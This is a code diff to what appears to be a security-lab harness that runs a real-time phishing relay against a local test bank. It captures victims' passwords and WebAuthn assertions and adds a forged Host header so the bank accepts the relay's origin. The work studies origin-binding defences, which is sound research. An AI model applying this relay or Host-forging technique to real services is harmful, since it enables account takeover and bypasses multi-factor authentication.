@@ -41,8 +41,9 @@ class PhishingRelay:
     .lab_answers: the lab's verdict on each relayed step. Use as a context manager.
     """
 
-    def __init__(self, lab_url, port=0):
+    def __init__(self, lab_url, port=0, *, forge_host=False):
         self.lab_url = lab_url
+        self.forge_host = forge_host  # send the bank "Host: localhost:<relay port>"
         self.loot, self.lab_answers = [], []
         self.captured = None
         self.webauthn_options = None
@@ -73,7 +74,7 @@ class PhishingRelay:
 
     def relay_password(self, sid, username, password):
         self.loot.append(("password", username, password))
-        client = HttpClient(self.lab_url)
+        client = HttpClient(self.lab_url, host=f"localhost:{self.port}" if self.forge_host else None)
         self._sessions[sid] = client
         page = wizards.password_step(client, username, password)
         self.lab_answers.append(("password", page.status, wizards.form_errors(page)))
@@ -129,9 +130,9 @@ def lab_url(lab):
 
 
 @contextmanager
-def relay_for(lab, port=0):
+def relay_for(lab, port=0, *, forge_host=False):
     """A PhishingRelay in front of `lab`; the relay (and a live server it needed) stop on exit."""
-    with lab_url(lab) as url, PhishingRelay(url, port) as relay:
+    with lab_url(lab) as url, PhishingRelay(url, port, forge_host=forge_host) as relay:
         yield relay
 
 
@@ -171,6 +172,7 @@ def victim_visits(relay, lab, username, *, authenticator=None):
 def relay_login(lab, username="bob", port=0):
     """Phish `username` through a live relay; succeeded when the relay's session opens /dashboard/."""
     factor = factor_name(lab, username)
+    lab.forget_used_codes(username)  # earlier scenes' sign-ins must not use up this step's code
     with stopwatch() as watch, relay_for(lab, port) as relay:
         victim_visits(relay, lab, username)
         ok, page = reached(relay.captured) if relay.captured else (False, None)
@@ -198,13 +200,18 @@ def diagnose(assertion, options, key, *, lab_origin, relay_origin):
             "py_webauthn, expecting the relay's origin": str(as_relay)}
 
 
-def relay_webauthn(lab, username="dana", port=0):
+def relay_webauthn(lab, username="dana", port=0, *, forge_host=False):
     """The same relay against a security key: the lab's options go to the victim's authenticator,
-    which signs for the relay's origin; the relay forwards the assertion."""
+    which signs for the relay's origin; the relay forwards the assertion.
+
+    forge_host: the relay also tells the bank it is `localhost:<relay port>` (the Host
+    header). ALLOWED_HOSTS ignores ports, so the bank takes it; a bank that builds its
+    expected origin from the Host (two-factor does) then expects the relay's origin."""
     from ..ceremony import persona_key
 
     key = persona_key(username, lab)
-    with stopwatch() as watch, relay_for(lab, port) as relay:
+    lab.forget_failures(username)  # an earlier scene's refused assertion must not throttle this one
+    with stopwatch() as watch, relay_for(lab, port, forge_host=forge_host) as relay:
         refused_by_client = victim_visits(relay, lab, username, authenticator=key)
         ok = bool(relay.captured) and reached(relay.captured)[0]
         relay_url, target = relay.url, relay.lab_url
@@ -213,16 +220,25 @@ def relay_webauthn(lab, username="dana", port=0):
         reason = f"the victim's authenticator refused to sign for the relay: {refused_by_client}"
         where = "authenticator"
     elif ok:
-        reason = "the relayed assertion signed the relay in (origin binding failed!)"
+        reason = ("the relayed assertion signed the relay in: the lab took its expected origin from the Host "
+                  "header the relay sent" if forge_host else
+                  "the relayed assertion signed the relay in (origin binding failed!)")
         where = "nobody"
     else:
         errors = relay.lab_answers[-1][2] if relay.lab_answers else []
         reason = (f"the authenticator signed (RP ID 'localhost' matches the relay's host: ports are not part of "
                   f"an RP ID), but the lab rejected the origin {relay_url}: {' '.join(errors) or 'refused'}")
         where = "lab (origin check)"
-    evidence = {**signed, "refused by": where, "victim typed": [item[0] for item in relay.loot]}
+    evidence = {**signed, "refused by": where, "victim typed": [item[0] for item in relay.loot],
+                "Host header sent to the lab": f"localhost:{relay.port}" if forge_host else "the lab's own"}
     assertion = next((json.loads(item[1]) for item in relay.loot if item[0] == "code"), None)
     if assertion is not None and relay.webauthn_options:
         evidence.update(diagnose(assertion, relay.webauthn_options, key, lab_origin=target, relay_origin=relay_url))
-    return AttackResult("real-time phishing relay", "WebAuthn", lab_name(lab), ok, attempts=len(relay.loot),
+    name = "real-time phishing relay, forged Host" if forge_host else "real-time phishing relay"
+    return AttackResult(name, "WebAuthn", lab_name(lab), ok, attempts=len(relay.loot),
                         elapsed=watch.elapsed, evidence=evidence, reason=reason)
+
+
+def relay_webauthn_forged_host(lab, username="dana", port=0):
+    """relay_webauthn with the Host header forged to the relay's own address."""
+    return relay_webauthn(lab, username, port, forge_host=True)
